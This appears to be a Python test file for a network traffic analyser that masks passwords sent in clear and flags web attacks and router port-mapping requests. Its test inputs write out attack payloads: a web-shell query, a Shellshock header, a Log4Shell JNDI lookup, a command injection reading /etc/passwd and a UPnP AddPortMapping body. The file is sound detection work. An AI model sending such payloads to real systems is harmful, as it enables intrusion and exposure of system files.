"""What a request gives away: each credential field once, one attack a request, doors at the router."""

from __future__ import annotations

from netscope.engine.correlate.http_findings import MAX_TOLD, RequestFindings
from netscope.model.records import HttpRequest
from netscope.model.service import ClearCredential, PortMappingSeen, WebAttackSeen
from tests.engine.correlate.session_replay import make_flow

FORM = "application/x-www-form-urlencoded"


class Found:
    def __init__(self) -> None:
        self.records: list[object] = []
        self.flow = make_flow()
        self.findings = RequestFindings(self.flow, self.records.append)

    def request(self, uri: str, agent: str | None = None) -> HttpRequest:
        return HttpRequest(self.flow, 7, "POST", "shop.example.org", uri, agent)


def test_a_secret_leaves_no_value_and_is_told_once() -> None:
    found = Found()
    assert found.findings.storable_uri("/l?password=hunter2", 7) == "/l?password=***"
    found.findings.storable_uri("/l?password=other", 8)
    found.findings.body(found.request("/l"), FORM, b"user=a&password=hunter2")
    credentials = [record for record in found.records if isinstance(record, ClearCredential)]
    assert [record.field for record in credentials] == ["query:password", "form:password"]
    assert "hunter2" not in str(found.records)


def test_fields_without_end_are_bounded() -> None:
    found = Found()
    for n in range(MAX_TOLD * 2):
        found.findings.storable_uri(f"/l?password{n}=x", n)
    assert len(found.records) == MAX_TOLD


def test_the_first_place_that_shows_an_attack_is_told() -> None:
    found = Found()
    found.findings.attacks(found.request("/?cmd=whoami", "() { :; }; x"), b"POST / HTTP/1.1\r\n\r\n")
    found.findings.attacks(found.request("/", "() { :; }; x"), b"POST / HTTP/1.1\r\n\r\n")
    found.findings.attacks(found.request("/"), b"POST / HTTP/1.1\r\nReferer: ${jndi:ldap://x/a}\r\n\r\n")
    found.findings.body(found.request("/p"), FORM, b"a=1;cat+/etc/passwd")
    attacks = [record for record in found.records if isinstance(record, WebAttackSeen)]
    assert [(record.kind, record.text) for record in attacks] == [
        ("web shell", "/?cmd=whoami"),
        ("Shellshock", "() { :; }; x"),
        ("Log4Shell", "in the header field Referer"),
        ("shell command", "in the body of POST /p"),
    ]


def test_a_door_at_the_router() -> None:
    found = Found()
    body = b"<u:AddPortMapping><NewInternalPort>80</NewInternalPort><NewExternalPort>81</NewExternalPort>"
    found.findings.body(found.request("/ctl"), "text/xml", body)
    found.findings.body(found.request("/ctl"), FORM, body)
    (door,) = found.records
    assert isinstance(door, PortMappingSeen)
    assert (door.protocol, door.external_port, door.internal_port) == ("tcp", 81, 80)
